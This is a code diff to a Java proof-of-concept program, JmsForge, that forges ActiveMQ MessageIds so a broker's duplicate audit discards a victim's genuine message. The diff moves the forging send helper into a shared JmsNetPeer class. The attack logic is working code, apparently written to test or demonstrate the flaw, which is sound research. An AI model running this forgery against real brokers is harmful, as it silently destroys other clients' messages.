@@ -5,13 +5,12 @@
 // forger's own connection then sends "forged" with MessageId VICTIM:1:1:2
 // (the victim's next, easy to guess); then the victim sends "v2" with
 // VICTIM:1:1:2. A broker whose audit is by MessageId alone drops "v2" as a
-// resend and answers it as taken: it is lost.
+// resend and answers it as taken: it is lost. Sends as JmsNetPeer does
+// (a chosen MessageId), with no brokerPath.
 import javax.jms.*;
 import org.apache.activemq.ActiveMQConnection;
 import org.apache.activemq.ActiveMQConnectionFactory;
 import org.apache.activemq.command.ActiveMQQueue;
-import org.apache.activemq.command.ActiveMQTextMessage;
-import org.apache.activemq.command.MessageId;
 import org.apache.activemq.command.ProducerId;
 
 public class JmsForge {
@@ -24,24 +23,11 @@ public class JmsForge {
         ProducerId pid = new ProducerId(victim.getConnectionInfo().getConnectionId().getValue()
                                         + ":1:1");
         ActiveMQQueue q = new ActiveMQQueue(a[1]);
-        send(victim, pid, q, 1, "v1");
-        send(forger, pid, q, 2, "forged");
-        send(victim, pid, q, 2, "v2");
+        JmsNetPeer.send(victim, pid, q, 1, "v1", null);
+        JmsNetPeer.send(forger, pid, q, 2, "forged", null);
+        JmsNetPeer.send(victim, pid, q, 2, "v2", null);
         victim.close();
         forger.close();
         System.out.println("sent");
-    }
-
-    // As the client's session would, but with the MessageId chosen here.
-    static void send(ActiveMQConnection c, ProducerId pid, ActiveMQQueue q, long seq,
-                     String text) throws JMSException {
-        ActiveMQTextMessage m = new ActiveMQTextMessage();
-        m.setText(text);
-        m.setMessageId(new MessageId(pid, seq));
-        m.setProducerId(pid);
-        m.setDestination(q);
-        m.setPersistent(true);
-        m.setResponseRequired(true);
-        c.syncSendPacket(m);
     }
 }
